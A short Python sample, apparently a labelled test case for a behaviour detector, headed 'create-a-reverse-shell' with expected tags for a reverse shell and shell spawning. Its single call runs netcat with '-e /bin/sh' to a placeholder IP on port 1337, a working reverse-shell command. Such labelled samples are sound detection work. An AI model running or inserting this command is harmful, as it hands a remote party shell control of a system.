# scenario: 10 create-a-reverse-shell
# expect: reverse_shell process.spawn_shell
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Asks netcat to run a shell for a remote peer.
import subprocess

try:
    subprocess.run(["nc", "-e", "/bin/sh", "198.51.100.3", "1337"], timeout=3)
except Exception as exc:
    print("nc failed:", exc)
